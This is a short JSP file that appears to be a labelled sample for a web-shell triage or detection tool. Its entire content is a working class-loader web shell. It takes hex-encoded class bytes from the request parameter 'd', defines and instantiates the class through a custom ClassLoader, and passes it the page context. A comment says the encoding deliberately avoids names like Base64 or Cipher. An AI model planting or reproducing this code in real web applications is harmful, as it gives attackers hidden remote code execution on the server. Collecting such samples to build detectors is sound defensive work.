<%@ page import="java.util.*" %>
<%-- triage-expect: triage_jsp_class_loader --%>
<%!
    // a loader of its own, fed bytes the request carries in a home-made encoding (no Base64 or Cipher named)
    class Ldr extends ClassLoader {
        Ldr(ClassLoader parent) { super(parent); }
        Class<?> make(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
    byte[] unhex(String s) {
        byte[] out = new byte[s.length() / 2];
        for (int i = 0; i < out.length; i++) out[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16);
        return out;
    }
%>
<%
    String data = request.getParameter("d");
    if (data != null) {
        Object o = new Ldr(this.getClass().getClassLoader()).make(unhex(data)).newInstance();
        o.equals(pageContext);
    }
%>
